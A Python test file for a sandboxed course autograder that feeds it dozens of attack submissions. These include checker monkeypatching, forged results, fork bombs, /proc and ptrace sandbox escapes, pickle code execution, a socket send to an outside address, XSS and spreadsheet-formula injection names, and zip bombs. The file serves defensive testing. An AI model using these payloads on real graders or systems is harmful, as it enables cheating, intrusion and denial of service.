"""Each way to cheat or to break the grader that is known, tried in every kind of jail.

Every attacker has solved the first exercise of a topic and attacks in the cell of the second. The
code is written so that it passes the second where it gets through.
"""

import csv
import ctypes
import dataclasses
import json
import os
import pickle
import socket
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from make_class import hand_in, right

from attn_course.classroom import commands, grading, jail, pages
from attn_course.exercises import EXERCISES

TOPIC, SOLVED, ATTACKED = "pooling", "pooled_value", "attention_pooling"
SECONDS = 2
SUBREAPER = 36  # prctl's: processes whose parent is gone become ours
MARK = "attn-course-escaped"
PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/", str(Path.home()), str(Path.cwd()), "FOLDER")


@dataclasses.dataclass(frozen=True)
class Attack:
    """What an attacker tries and gets, and the cell or the file that does it.

    `make` gets the path of the attacker's notebook and that of another student's. In `code`,
    FOLDER, PORT, MARK, PLACES and ROOT stand for what the test puts there.
    """

    name: str
    tries: str
    gets: str
    code: str = ""
    make: Callable[[Path, Path], None] | None = None


NOTHING = "0 for the exercise; what was solved counts"
TIMED = "0 for the exercise, after its time; what was solved counts"
UNREAD = "0, with the reason on the page"
ALONE = "the exercise, if its numbers are right"
CHEAT = "def attention_pooling(*args, **kwargs):\n    return np.zeros(1)\n"


def _modules(path: Path, other: Path) -> None:
    harm = f"import os\nos.mkdir('/tmp/{MARK}')\n"
    for name in ("numpy", "sitecustomize", "json", "attn_course"):
        path.with_name(f"{name}.py").write_text(harm)
    package = path.parent / "attn_course"
    package.mkdir()
    package.joinpath("__init__.py").write_text(harm)


def _marks(path: Path, other: Path) -> None:
    notebook = json.loads(path.read_text())
    marks = [[], {"grade_id": []}, {"grade_id": "x" * 10**6}, {"grade_id": f"{ATTACKED}-check"}]
    for number, cell in enumerate(notebook["cells"]):
        if SOLVED not in cell["source"]:
            cell["metadata"] = {"nbgrader": marks[number % len(marks)], "deep": [[[[]]]] * 1000}
    path.write_text(json.dumps(notebook))


CODE = [
    Attack(
        "replaced comparisons",
        "replaces np.allclose, np.isclose and np.testing",
        NOTHING,
        "import numpy as np\n"
        "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n" + CHEAT,
    ),
    Attack(
        "replaced library",
        "replaces np.array, np.asarray, tracemalloc, sys.stdout and builtins",
        NOTHING,
        "import builtins, sys, tracemalloc\nimport numpy as np\n"
        "np.array = np.asarray = lambda *a, **k: np.zeros(())\n"
        "tracemalloc.get_traced_memory = lambda: (0, 0)\n"
        "sys.stdout = None\nbuiltins.len = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n"
        + CHEAT,
    ),
    Attack(
        "replaced checker",
        "replaces `check` and the judge's modules",
        NOTHING,
        "import sys, types\nimport numpy as np\n"
        "for name in ('attn_course.exercises', 'attn_course.exercises.checking', 'checking'):\n"
        "    sys.modules[name] = types.SimpleNamespace(\n"
        "        check=lambda *a: True, judge=lambda *a: 'passed', _equal=lambda *a: True)\n"
        + CHEAT,
    ),
    Attack(
        "replaced runner",
        "replaces the function of the runner that writes the results",
        NOTHING,
        "import numpy as np\nfrom attn_course.classroom import runner\n"
        "write = runner._write\n"
        "runner._write = lambda data: write(data.replace(b'failed', b'passed'))\n" + CHEAT,
    ),
    Attack(
        "forged results",
        "writes results and verdicts of its own on every descriptor",
        NOTHING,
        "import json, os\nimport numpy as np\n"
        "for header in ({'answer': 'function'}, {'status': 'passed'}, {'case': 0}, {'case': -1},\n"
        "               {'case': 0, 'arrays': [{'dtype': 'object', 'shape': [1]}]},\n"
        "               {'ended': 'code 0'}):\n"
        "    text = json.dumps({**header, 'size': 0}).encode()\n"
        "    for number in range(64):\n"
        "        try:\n"
        "            os.write(number, len(text).to_bytes(4, 'big') + text)\n"
        "        except OSError:\n"
        "            pass\n" + CHEAT,
    ),
    Attack(
        "flooded results",
        "writes 100 MB where results go",
        NOTHING,
        "import os\nfor _ in range(100):\n    os.write(3, bytes(10**6))\n",
    ),
    Attack("os._exit", "ends its process as if all were well", NOTHING, "import os\nos._exit(0)\n"),
    Attack(
        "sys.exit",
        "leaves the cell, and the function",
        NOTHING,
        "import sys\ndef attention_pooling(*a, **k):\n    sys.exit(0)\nsys.exit(0)\n",
    ),
    Attack(
        "endless loop",
        "never returns",
        TIMED,
        "def attention_pooling(*a, **k):\n    while True:\n        pass\n",
    ),
    Attack(
        "endless cell",
        "never comes to the end of a cell, and catches whatever should end it",
        TIMED,
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass\n",
    ),
    Attack(
        "ignored signals",
        "ignores every signal, then sleeps",
        TIMED,
        "import signal, time\n"
        "for number in range(1, 65):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError):\n        pass\n"
        "while True:\n    time.sleep(1000)\n",
    ),
    Attack(
        "fork bomb",
        "starts processes without end",
        NOTHING,
        "import os\ndef attention_pooling(*a, **k):\n    while True:\n        os.fork()\n",
    ),
    Attack(
        "threads",
        "starts threads without end",
        NOTHING,
        "import threading, time\ndef attention_pooling(*a, **k):\n    while True:\n"
        "        threading.Thread(target=time.sleep, args=(1000,)).start()\n",
    ),
    Attack(
        "another program",
        "runs a shell",
        NOTHING,
        "import os\ndef attention_pooling(*a, **k):\n"
        "    os.execv('/bin/sh', ['sh', '-c', 'sleep 1000'])\n",
    ),
    Attack(
        "3 GiB of memory",
        "takes 3 GiB",
        NOTHING,
        "def attention_pooling(*a, **k):\n    bytearray(3 * 2**30)\n"
        "    raise RuntimeError('ESC' + 'APED')\n",
    ),
    Attack(
        "raised limits",
        "lifts its own limits of memory and time, then takes 3 GiB",
        NOTHING,
        "import resource\ndef attention_pooling(*a, **k):\n"
        "    for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):\n"
        "        try:\n            resource.setrlimit(limit, (-1, -1))\n"
        "            raise RuntimeError('ESC' + 'APED')\n"
        "        except (OSError, ValueError):\n            pass\n",
    ),
    Attack(
        "crashed interpreter",
        "overflows the stack of the interpreter",
        NOTHING,
        "import sys\nsys.setrecursionlimit(10**9)\ndef attention_pooling(*a, **k):\n"
        "    return sorted([0], key=attention_pooling)\n",
    ),
    Attack(
        "full disk",
        "writes until the disk is full",
        NOTHING,
        "import os\ndef attention_pooling(*a, **k):\n    for place in PLACES:\n"
        "        try:\n"
        "            with open(os.path.join(place, 'MARK'), 'wb') as file:\n"
        "                for _ in range(64):\n                    file.write(bytes(2**20))\n"
        "        except OSError:\n            pass\n    return 0.0\n",
    ),
    Attack(
        "files elsewhere",
        "makes, renames, links and deletes files outside",
        NOTHING,
        "import os, shutil\ndef attention_pooling(*a, **k):\n    for place in PLACES:\n"
        "        path = os.path.join(place, 'MARK')\n"
        "        for attempt in (lambda: os.mkdir(path), lambda: os.symlink('/', path),\n"
        "                        lambda: open(path, 'w'), lambda: os.mkfifo(path),\n"
        "                        lambda: os.rename('FOLDER/submitted', path),\n"
        "                        lambda: shutil.rmtree('FOLDER'),\n"
        "                        lambda: os.chmod('FOLDER/submitted', 0)):\n"
        "            try:\n                attempt()\n            except OSError:\n"
        "                pass\n    return 0.0\n",
    ),
    Attack(
        "a file in memory",
        "keeps what is too large in a file without a name",
        NOTHING,
        "import os\ndef attention_pooling(*a, **k):\n"
        "    os.write(os.memfd_create('large'), bytes(2**20))\n"
        "    raise RuntimeError('ESC' + 'APED')\n",
    ),
    Attack(
        "network",
        "sends its inputs to a server on this machine and elsewhere",
        NOTHING,
        "import socket\ndef attention_pooling(*a, **k):\n"
        "    for place in (('127.0.0.1', PORT), ('192.0.2.1', 80)):\n"
        "        try:\n            socket.create_connection(place, timeout=1).send(b'inputs')\n"
        "        except OSError:\n            pass\n    return 0.0\n",
    ),
    Attack(
        "another's answer",
        "runs the cells of another submission",
        NOTHING,
        "import json\n"
        "with open('FOLDER/submitted/other/pooling/pooling.ipynb') as file:\n"
        "    for cell in json.load(file)['cells']:\n"
        "        if 'def attention_pooling' in cell['source'] or 'pooling_' in cell['source']:\n"
        "            exec(cell['source'])\n",
    ),
    Attack(
        "the reference",
        "imports the reference, also from its file",
        NOTHING,
        "import sys\nsys.path.insert(0, 'ROOT')\n"
        "for name in [name for name in sys.modules if name.startswith('attn_course')]:\n"
        "    del sys.modules[name]\n"
        "from attn_course.reference.pooling import attention_pooling\n",
    ),
    Attack(
        "the solutions",
        "reads the right answers from the file of the exercises",
        NOTHING,
        "text = open('ROOT/attn_course/exercises/pooling.py').read()\n"
        "from attn_course.exercises.pooling import EXERCISES\n"
        "attention_pooling = EXERCISES[1].right[0]\n",
    ),
    Attack(
        "other processes' secrets",
        "reads environments, memory and open files in /proc",
        NOTHING,
        "import glob\ndef attention_pooling(*a, **k):\n"
        "    found = glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/mem')\n"
        "    seen = ''.join(open(path, errors='replace').read(10) for path in found)\n"
        "    raise RuntimeError('ESC' + 'APED' if found else 'nothing')\n",
    ),
    Attack(
        "killed parents",
        "kills its parent and everything else, also by way of files that send signals",
        NOTHING,
        "import fcntl, os, resource, signal\ndef attention_pooling(*a, **k):\n"
        "    def by_file():\n"
        "        fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid())\n"
        "        fcntl.fcntl(3, 10, signal.SIGKILL)\n"
        "        fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)\n"
        "    for attempt in (lambda: os.kill(os.getppid(), 0), lambda: os.kill(-1, 0),\n"
        "                    lambda: os.killpg(0, 0), by_file,\n"
        "                    lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 0),\n"
        "                    lambda: resource.prlimit(os.getppid(), 0, (0, 0))):\n"
        "        try:\n            attempt()\n            raise RuntimeError('ESC' + 'APED')\n"
        "        except OSError:\n            pass\n    return 0.0\n",
    ),
    Attack(
        "another's memory",
        "writes into its parent with ptrace and process_vm_writev",
        NOTHING,
        "import ctypes, os\ndef attention_pooling(*a, **k):\n    libc = ctypes.CDLL(None)\n"
        "    did = [libc.ptrace(16, os.getppid(), 0, 0),\n"
        "           libc.process_vm_writev(os.getppid(), 0, 0, 0, 0, 0),\n"
        "           libc.unshare(0x10000000),\n"
        "           libc.mount(b'none', b'/', b'tmpfs', 0, 0), libc.chroot(b'/')]\n"
        "    raise RuntimeError('ESC' + 'APED' if any(x >= 0 for x in did) else 'nothing')\n",
    ),
    Attack(
        "pickled code",
        "returns an object that runs code where it is unpickled",
        NOTHING,
        "import os\nclass Bomb:\n    def __reduce__(self):\n"
        "        return os.system, ('touch /tmp/MARK',)\n"
        "def attention_pooling(*a, **k):\n    return Bomb()\n",
    ),
    Attack(
        "hostile __array__",
        "returns objects whose conversion to an array lies",
        NOTHING,
        "import numpy as np\nclass Any(float):\n    __eq__ = __lt__ = lambda self, other: True\n"
        "    def __hash__(self):\n        return 0\n"
        "class Bomb:\n    def __array__(self, *a, **k):\n"
        "        return np.array([Any()], dtype=object)\n"
        "def attention_pooling(*a, **k):\n    return Bomb()\n",
    ),
    Attack(
        "an array of its own kind",
        "returns arrays that are equal to everything",
        NOTHING,
        "import numpy as np\nclass Equal(np.ndarray):\n"
        "    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
        "    def __array_ufunc__(self, *a, **k):\n        return True\n"
        "def attention_pooling(x, *a, **k):\n    return np.zeros(x.shape).view(Equal)\n",
    ),
    Attack(
        "another dtype",
        "returns text, complex numbers, dates and NaN",
        NOTHING,
        "import itertools\nimport numpy as np\n"
        "turns = itertools.cycle([np.array(['x']), np.array([1j]), np.datetime64('2020-01-01'),\n"
        "                         np.array([np.nan], np.longdouble), np.float16('nan')])\n"
        "def attention_pooling(*a, **k):\n    return next(turns)\n",
    ),
    Attack(
        "another size",
        "returns a result of 8 GB, and one of 30 MB",
        NOTHING,
        "import itertools\nimport numpy as np\n"
        "turns = itertools.cycle([np.broadcast_to(0.0, (10**9,)), np.zeros(4 * 10**6)])\n"
        "def attention_pooling(*a, **k):\n    return next(turns)\n",
    ),
    Attack(
        "huge output",
        "prints without end",
        NOTHING,
        "def attention_pooling(*a, **k):\n    while True:\n        print('x' * 10**6)\n",
    ),
    Attack(
        "markup",
        "puts a script into error messages and names",
        NOTHING,
        "class Bad(Exception):\n    pass\nBad.__name__ = '<script>alert(1)</script>'\n"
        "def attention_pooling(*a, **k):\n    raise Bad('<img src=x onerror=alert(1)>')\n",
    ),
    Attack(
        "unprintable errors",
        "raises errors of marks that no page can hold, or that turn it around",
        NOTHING,
        "marks = ''.join(map(chr, (0xd800, 0xdc80, 0x202e, 0x2066, 27, 0)))\n"
        "def attention_pooling(*a, **k):\n    raise ValueError(marks + '</pre><style>')\n"
        "kernel_average = marks\n",
    ),
    Attack(
        "errors that fail",
        "raises an error that cannot be told, since telling it raises another",
        NOTHING,
        "class Bad(Exception):\n    def __str__(self):\n        raise Bad\n"
        "    __repr__ = __str__\ndef attention_pooling(*a, **k):\n    raise Bad\n",
    ),
    Attack(
        "an impossible shape",
        "forges a result without entries, of a shape that no array can have",
        NOTHING,
        "import json, os\n"
        "for header in ({'answer': 'function'},\n"
        "               {'case': 0, 'arrays': [{'dtype': 'bool', 'shape': [0] + [2**23] * 7}]}):\n"
        "    text = json.dumps({**header, 'size': 0}).encode()\n"
        "    os.write(3, len(text).to_bytes(4, 'big') + text)\n" + CHEAT,
    ),
    Attack(
        "many results",
        "forges 8 MB of the shortest messages",
        NOTHING,
        "import json, os\n"
        "for header, times in (({'answer': 'function', 'late': [1, 2], 'skipped': ['']}, 1),\n"
        "                      ({'case': 0}, 300_000)):\n"
        "    text = json.dumps({**header, 'size': 0}).encode()\n"
        "    whole = (len(text).to_bytes(4, 'big') + text) * times\n"
        "    while whole:\n        whole = whole[os.write(3, whole):]\n" + CHEAT,
    ),
    Attack(
        "other inputs",
        "replaces the inputs of all calls by zeros",
        NOTHING,
        "import sys\nimport numpy as np\ndef attention_pooling(x, *a, **k):\n"
        "    frame = sys._getframe()\n"
        "    while 'cases' not in frame.f_locals:\n        frame = frame.f_back\n"
        "    for case in frame.f_locals['cases']:\n"
        "        for given in (*case.args, *case.kwargs.values()):\n"
        "            if isinstance(given, np.ndarray):\n                given[...] = 0\n"
        "    return np.zeros_like(x[..., 0, :])\n",
    ),
    Attack(
        "answers in memory",
        "looks for right answers in all frames, modules and objects of its process",
        NOTHING,
        "import gc, sys\ndef attention_pooling(*a, **k):\n"
        "    for found in gc.get_objects():\n"
        "        name = getattr(found, '__module__', None)\n"
        "        if type(name) is str and name.startswith('attn_course.exercises.'):\n"
        "            raise RuntimeError('ESC' + 'APED')\n"
        "    frame = sys._getframe(1)\n"
        "    while frame:\n"
        "        if {'wanted', 'want', 'exercise', 'solve'} & {*frame.f_locals}:\n"
        "            raise RuntimeError('ESC' + 'APED')\n        frame = frame.f_back\n",
    ),
    Attack(
        "open descriptors",
        "reads from every descriptor, and looks for more in /proc/self/fd and /dev/fd",
        NOTHING,
        "import os\ndef attention_pooling(*a, **k):\n    found = b''\n"
        "    for number in range(5000):\n        try:\n"
        "            found += os.read(number, 10)\n        except OSError:\n            pass\n"
        "    for place in ('/proc/self/fd', '/proc/self/environ', '/proc/1/environ', '/dev/fd'):\n"
        "        try:\n            found += place.encode() * bool(os.open(place, os.O_RDONLY))\n"
        "        except OSError:\n            pass\n"
        "    raise RuntimeError('ESC' + 'APED' if found else 'nothing')\n",
    ),
    Attack(
        "hooks",
        "writes results at the end of the process, at signals, at each call and at each collection",
        NOTHING,
        "import atexit, gc, json, os, signal, sys\nimport numpy as np\n"
        "def forge(*a, **k):\n    for case in range(40):\n"
        "        text = json.dumps({'case': case, 'arrays': [], 'size': 0}).encode()\n"
        "        os.write(3, len(text).to_bytes(4, 'big') + text)\n"
        "atexit.register(forge)\nsignal.signal(signal.SIGALRM, forge)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\ngc.callbacks.append(forge)\n"
        + CHEAT
        + "sys.setprofile(forge)\n",
    ),
    Attack(
        "emptied modules",
        "replaces every module by an empty one, and ends all imports",
        NOTHING,
        "import sys, types\nimport numpy as np\n"
        "for name in [*sys.modules]:\n    sys.modules[name] = types.ModuleType(name)\n"
        "sys.meta_path.clear()\nsys.path_hooks.clear()\n" + CHEAT,
    ),
    Attack(
        "memory as an array",
        "returns an object that claims to be an array at an address of its choice",
        NOTHING,
        "class Claim:\n    __array_interface__ = {\n"
        "        'shape': (10**4,), 'typestr': '<f8', 'data': (4096, False), 'version': 3}\n"
        "def attention_pooling(*a, **k):\n    return Claim()\n",
    ),
    Attack(
        "an object for everything",
        "returns an object that has every attribute and takes part in every function of NumPy",
        NOTHING,
        "import numpy as np\nclass Any:\n    shape, dtype, ndim = (1,), np.dtype(float), 1\n"
        "    __array_ufunc__ = __array_function__ = lambda self, *a, **k: True\n"
        "    __eq__ = __ge__ = __le__ = lambda self, other: True\n"
        "    def __getattr__(self, name):\n        return lambda *a, **k: True\n"
        "def attention_pooling(*a, **k):\n    return Any()\n",
    ),
    Attack(
        "an array that lies about itself",
        "returns complex numbers that say that they are real, and replace their own copies",
        NOTHING,
        "import os\nimport numpy as np\nclass Liar(np.ndarray):\n"
        "    dtype = property(lambda self: np.dtype(float))\n"
        "    astype = copy = __deepcopy__ = lambda self, *a, **k: self\n"
        "    tobytes = lambda self, *a: bytes(10**7)\n"
        "    __reduce__ = lambda self: (os._exit, (0,))\n"
        "def attention_pooling(*a, **k):\n    return np.zeros(3, complex).view(Liar)\n",
    ),
    Attack(
        "odd results",
        "returns generators, records, bytes, durations, 300 arrays, nine axes and a masked value",
        NOTHING,
        "import itertools\nimport numpy as np\n"
        "turns = itertools.cycle([\n"
        "    (x for x in [1.0]), np.zeros(2, [('a', float)]), bytes(8), np.timedelta64(5),\n"
        "    (np.zeros(1),) * 300, np.zeros((1,) * 9), np.ma.masked, np.zeros(2, 'V8'),\n"
        "    np.zeros((0,) * 8), '1.0', {1: 2}, type, memoryview(bytes(8))])\n"
        "def attention_pooling(*a, **k):\n    return next(turns)\n",
    ),
    Attack(
        "modules beside the notebook",
        "hands in a numpy.py, a sitecustomize.py and a package attn_course as well",
        NOTHING,
        CHEAT,
        make=_modules,
    ),
    Attack(
        "other marks",
        "marks its cells as checks of the exercise, and with lists where names stand",
        NOTHING,
        CHEAT,
        make=_marks,
    ),
]


def _text(content: bytes) -> Callable[[Path, Path], None]:
    return lambda path, other: path.write_bytes(content)


def _link(path: Path, other: Path) -> None:
    path.symlink_to(other)


def _folder_link(path: Path, other: Path) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(other.parent)


def _large(path: Path, other: Path) -> None:
    with path.open("wb") as file:
        file.truncate(100 * 2**20)


def _zip_bomb(path: Path, other: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("pooling.ipynb", bytes(50 * 2**20))


class _Bomb:
    def __reduce__(self):
        return os.mkdir, (f"/tmp/{MARK}",)


FILES = [
    Attack("a link", "hands in a link to another's notebook", UNREAD, make=_link),
    Attack("a linked folder", "hands in a link to another's folder", UNREAD, make=_folder_link),
    Attack(
        "a named pipe",
        "hands in a pipe that never ends",
        UNREAD,
        make=lambda path, other: os.mkfifo(path),
    ),
    Attack("a folder", "hands in a folder", UNREAD, make=lambda path, other: path.mkdir()),
    Attack("100 MB", "hands in 100 MB", UNREAD, make=_large),
    Attack("a zip bomb", "hands in an archive that unpacks to 50 MB", UNREAD, make=_zip_bomb),
    Attack(
        "a pickle", "hands in a pickle that runs code", UNREAD, make=_text(pickle.dumps(_Bomb()))
    ),
    Attack(
        "another encoding",
        "hands in letters that are no UTF-8",
        UNREAD,
        make=_text('{"cells": [], "x": "\xe9"}'.encode("latin-1")),
    ),
    Attack(
        "no number",
        "writes NaN where the cells should be",
        UNREAD,
        make=_text(b'{"cells": [], "cells": NaN}'),
    ),
    Attack("deep JSON", "nests a million lists", UNREAD, make=_text(b"[" * 10**6 + b"]" * 10**6)),
    Attack(
        "huge numbers",
        "writes a number of a million digits",
        UNREAD,
        make=_text(b'{"cells": ' + b"9" * 10**6 + b"}"),
    ),
    Attack(
        "no cells",
        "hands in JSON of another form",
        UNREAD,
        make=_text(json.dumps({"cells": [1, None, "x"]}).encode()),
    ),
    Attack(
        "endless cells",
        "hands in 100,000 cells",
        UNREAD,
        make=_text(json.dumps({"cells": [{"cell_type": "code", "source": ""}] * 100_000}).encode()),
    ),
]
NAMES = [
    Attack("\n<script>alert(1)</script>\x1b[2J", "has a name of markup and control marks", NOTHING),
    Attack("=cmd|'/c calc'!A1", "has a name that a spreadsheet computes", NOTHING),
    Attack(
        'x;=1+1,=1+1,"\t=1+1',
        "has a name that a spreadsheet takes for several cells, one of which it computes",
        NOTHING,
    ),
    Attack("\u202egnp.exe\udcff", "has a name that reads backwards and is no text", NOTHING),
]
# What runs beside the answer can hide what the answer does besides returning numbers.
ALLOWED = [
    Attack(
        "hidden writes",
        "writes into its arguments, and replaces what would notice",
        ALONE,
        right(EXERCISES[ATTACKED]) + "import sys\n"
        "sys.modules['checking']._same = lambda before, after: True\n"
        f"inner = {ATTACKED}\n"
        "def attention_pooling(x, *a, **k):\n    result = inner(x, *a, **k)\n    x[...] = 0\n"
        "    return result\n",
    ),
]
GIVEN_BACK = "    ctypes.CDLL(glob.glob(np.__path__[0] + '.libs/*openblas*')[0]).blas_shutdown()\n"
MEMORY = Attack(
    "borrowed memory",
    "gives back what a library had taken before the limit was set, and takes more than it may",
    ALONE,
    "import ctypes, glob, math\nimport numpy as np\n"
    "def tiled_attention(q, k, v, mask=True, *, bias=0.0, scale=None, softcap=None, block=512):\n"
    + GIVEN_BACK
    + "    i, j = np.ogrid[: q.shape[-2], : k.shape[-2]]\n"
    "    allowed = mask(0, 0, i, j) if callable(mask) else mask\n"
    "    scores = np.einsum('...id,...jd->...ij', q, k)\n"
    "    scores *= 1 / math.sqrt(q.shape[-1]) if scale is None else scale\n"
    "    if softcap is not None:\n        scores = softcap * np.tanh(scores / softcap)\n"
    "    scores += bias\n"
    "    scores = scores if allowed is True else np.where(allowed, scores, -np.inf)\n"
    "    top = scores.max(axis=-1, keepdims=True)\n"
    "    scores -= np.where(top == -np.inf, 0, top)\n    np.exp(scores, out=scores)\n"
    "    total = scores.sum(axis=-1, keepdims=True)\n"
    "    return np.einsum('...ij,...je->...ie', scores, v) / np.where(total == 0, 1, total)\n",
)
ATTACKS = [*CODE, *FILES, *NAMES, *ALLOWED, MEMORY]

kinds = pytest.mark.parametrize("kind", jail.KINDS)


def attacks(listed: list[Attack]):
    return pytest.mark.parametrize("attack", listed, ids=[repr(attack.name) for attack in listed])


@pytest.fixture
def folder(tmp_path):
    """A class with another student, who has solved everything, and afterwards still has."""
    asked = [exercise for exercise in EXERCISES.values() if exercise.topic == TOPIC]
    hand_in(tmp_path, "other", TOPIC, {exercise.name: right(exercise) for exercise in asked})
    return tmp_path


@pytest.fixture(autouse=True)
def nothing_left(folder):
    """No process and no file may be left, and nothing changed."""
    ctypes.CDLL(None).prctl(SUBREAPER, 1)
    children = Path(f"/proc/self/task/{os.getpid()}/children")
    before = set(children.read_text().split())
    work = (folder / "submitted" / "other" / TOPIC / f"{TOPIC}.ipynb").read_bytes()
    yield
    for child in set(children.read_text().split()) - before:
        ended(int(child))
    assert (folder / "submitted" / "other" / TOPIC / f"{TOPIC}.ipynb").read_bytes() == work
    for place in PLACES:
        assert not os.path.lexists(os.path.join(place.replace("FOLDER", str(folder)), MARK))


def ended(child: int) -> None:
    """Wait for a process that is ending: a jail is empty a moment after its first process ends."""
    for _ in range(500):
        if os.waitpid(child, os.WNOHANG) != (0, 0):
            return
        time.sleep(0.01)
    raise AssertionError(f"left: {Path(f'/proc/{child}/cmdline').read_text()}")


def graded(folder, kind, name="attacker"):
    return grading.grade(folder, name, TOPIC, 5, kind, SECONDS)


def statuses(result):
    return {row.exercise: row.status for row in result.rows}


def attacking(folder, name, code) -> Path:
    return hand_in(folder, name, TOPIC, {SOLVED: right(EXERCISES[SOLVED]), ATTACKED: code})


@pytest.fixture
def server():
    """A server on this machine that nobody may reach."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening
        with pytest.raises(BlockingIOError):
            listening.accept()


@kinds
@attacks(CODE)
def test_code_that_attacks(folder, kind, attack, server):
    root = str(Path(jail.__file__).parents[2])
    known = {"FOLDER": str(folder), "ROOT": root, "PORT": str(server.getsockname()[1])}
    code = attack.code.replace("PLACES", repr(PLACES)).replace("MARK", MARK)
    for name, value in known.items():
        code = code.replace(name, value)
    path = attacking(folder, "attacker", code)
    if attack.make:
        attack.make(path, folder / "submitted" / "other" / TOPIC / f"{TOPIC}.ipynb")
    result = graded(folder, kind)
    assert result.problem == ""
    assert [name for name, status in statuses(result).items() if status == "passed"] == [SOLVED]
    page = pages.feedback(result)
    commands.write_feedback(folder, result)
    assert "ESCAPED" not in page
    assert "\u202e" not in page
    assert "<script" not in page
    assert "<img" not in page
    assert set(statuses(graded(folder, kind, "other")).values()) == {"passed"}


@attacks(FILES)
def test_files_that_attack(folder, attack):
    path = folder / "submitted" / "attacker" / TOPIC / f"{TOPIC}.ipynb"
    path.parent.mkdir(parents=True)
    attack.make(path, folder / "submitted" / "other" / TOPIC / f"{TOPIC}.ipynb")
    result = graded(folder, "bubblewrap")
    assert set(statuses(result).values()) == {"unreadable"}
    assert result.problem
    assert result.problem in pages.feedback(result)


@attacks(NAMES)
def test_names_that_attack(folder, attack):
    name = attack.name.replace("/", "\u2215")
    attacking(folder, name, "")
    result = graded(folder, "bubblewrap", name)
    assert statuses(result)[SOLVED] == "passed"
    course = pages.Class()
    course.add(name, result.seed, [dataclasses.asdict(row) for row in result.rows])
    for page in (pages.feedback(result), course.report(), course.table()):
        page.encode()
        assert "<script" not in page.replace(course.table(), "")
        assert "\x1b" not in page
        assert "\u202e" not in page
    commands.write_feedback(folder, result)
    assert os.listdir(folder / "feedback") == [name]
    assert len(course.table().splitlines()) == 2
    for delimiter in ",;\t":
        for row in csv.reader(course.table().splitlines(), delimiter=delimiter):
            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row)


@kinds
@attacks(ALLOWED)
def test_what_an_answer_can_hide(folder, kind, attack):
    """That its numbers are right it cannot."""
    attacking(folder, "attacker", attack.code)
    assert statuses(graded(folder, kind))[ATTACKED] == "passed"
    attacking(folder, "open", attack.code.replace("._same", ".other"))
    rows = {row.exercise: row for row in graded(folder, kind, "open").rows}
    assert rows[ATTACKED].slips == ("changes its arguments",)


@kinds
def test_memory_that_an_answer_can_hide(folder, kind):
    for name, code in (("attacker", MEMORY.code), ("open", MEMORY.code.replace(GIVEN_BACK, ""))):
        hand_in(folder, name, "tiled", {"tiled_attention": code})
    attacker, openly = (
        {row.exercise: row for row in grading.grade(folder, name, "tiled", 5, kind, 10).rows}
        for name in ("attacker", "open")
    )
    assert attacker["tiled_attention"].status == "passed"
    costly = EXERCISES["tiled_attention"].costly.name
    assert openly["tiled_attention"].slips == (costly,)


@kinds
def test_the_attacks_get_through_where_they_may(folder, kind):
    """The same way of passing as attackers go, with what is allowed: it passes."""
    attacking(folder, "honest", right(EXERCISES[ATTACKED]))
    assert statuses(graded(folder, kind, "honest"))[ATTACKED] == "passed"


def test_a_jail_without_walls_is_noticed(monkeypatch):
    monkeypatch.setattr(jail, "KINDS", ("none",))
    monkeypatch.setattr(jail, "command", lambda kind: [])
    with pytest.raises(jail.NoJail, match="a program in it reads a file"):
        jail.working()
